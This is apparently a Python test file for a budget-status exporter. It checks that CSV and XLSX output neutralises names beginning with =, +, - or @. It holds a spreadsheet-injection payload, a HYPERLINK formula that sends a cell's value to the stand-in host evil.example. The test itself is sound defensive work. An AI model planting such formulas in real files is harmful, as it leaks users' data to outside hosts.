"""Issue 22: `tertial status --format csv|xlsx` wrote unit names starting with =, +, -, @ as they were."""

import csv
import io

from openpyxl import load_workbook

from tertial.core.org import Sector, Unit, organisation_build
from tertial.core.periods import Period
from tertial.core.status import status_compute
from tertial.renderers.status_export import status_csv, status_xlsx

EVIL = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
KR = 100


def table():
    org = organisation_build(
        2024, [Sector("=1+1", "@Sektor", 0)], [Unit("100", EVIL, "=1+1", 0), Unit("110", "-Skole", "=1+1", 1)]
    )
    return status_compute(
        org,
        Period(2024, 3),
        actual={"100": 300 * KR, "110": 100 * KR},
        budget={"100": 1000 * KR, "110": 1000 * KR},
        forecast={"100": 1500 * KR, "110": 1000 * KR},
        total_name="Totalt",
    )


def test_status_csv_neutralises_text_and_keeps_numbers():
    rows = list(csv.DictReader(io.StringIO(status_csv(table()))))
    names = [r["navn"] for r in rows]
    assert "'" + EVIL in names and "'-Skole" in names
    assert not [r for r in rows if r["navn"].startswith(("=", "-", "@")) or r["tjenesteomrade"].startswith("=")]
    unit = next(r for r in rows if r["ansvar"] == "100")
    assert unit["avvik"] == "-500.00"  # a real negative amount is not touched


def test_status_xlsx_holds_no_formula(tmp_path):
    path = tmp_path / "status.xlsx"
    status_xlsx(table(), path)
    cells = [c for row in load_workbook(path).active.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'=1+1" in [c.value for c in cells]  # the sector code column
    assert -500 in [c.value for c in cells]
